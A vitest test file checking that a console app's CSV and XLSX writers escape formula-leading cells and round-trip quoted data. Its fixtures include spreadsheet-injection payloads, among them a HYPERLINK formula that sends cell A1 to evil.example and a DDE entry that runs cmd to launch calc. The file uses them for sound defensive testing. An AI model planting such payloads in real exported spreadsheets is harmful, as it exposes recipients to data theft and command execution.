import { strFromU8, unzipSync } from 'fflate'
import { expect, it } from 'vitest'
import { writeCsv } from '../../src/ui/console/analytics/write-csv.ts'
import { readCsv, writeXlsx } from '../../src/ui/console/kinds/lottery/sheet.ts'

const formulas = [
  '=1+2',
  '=HYPERLINK("https://evil.example?"&A1,"win")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+2',
  '＋1',
  '－1',
  '＠A1',
]

it.each(formulas)('writes %j as text, in csv and in xlsx', (formula) => {
  const [[cell = '', after] = []] = readCsv(writeCsv([[formula, 'after']]).slice(1))
  expect([cell.replaceAll('\r', ''), after]).toEqual([`'${formula.replaceAll('\r', '')}`, 'after'])
  const sheet = strFromU8(unzipSync(writeXlsx([[formula]]))['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
  expect(sheet).toMatch(/<row><c t="inlineStr"><is><t [^>]+>[^<]+<\/t><\/is><\/c><\/row>/)
  expect(sheet).not.toContain('<f>')
})

it('writes no cell over its edge', () => {
  const rows = [['a,b', 'c"d', 'e\r\nf', '"', '=a,"b"']]
  expect(readCsv(writeCsv(rows).slice(1))).toEqual([['a,b', 'c"d', 'e\r\nf', '"', `'=a,"b"`]])
  expect(writeCsv([['张三']])).toBe('\ufeff张三\r\n')
})

it('reads what spreadsheets write as CSV', () => {
  expect(readCsv('Name,Note\r\n"Lee, Ann","said ""yes""\nagain"\r\n\r\n张三,138')).toEqual([
    ['Name', 'Note'],
    ['Lee, Ann', 'said "yes"\nagain'],
    ['张三', '138'],
  ])
  expect(readCsv('Ana;7\nBo;8\n')).toEqual([
    ['Ana', '7'],
    ['Bo', '8'],
  ])
  expect(readCsv('')).toEqual([])
})
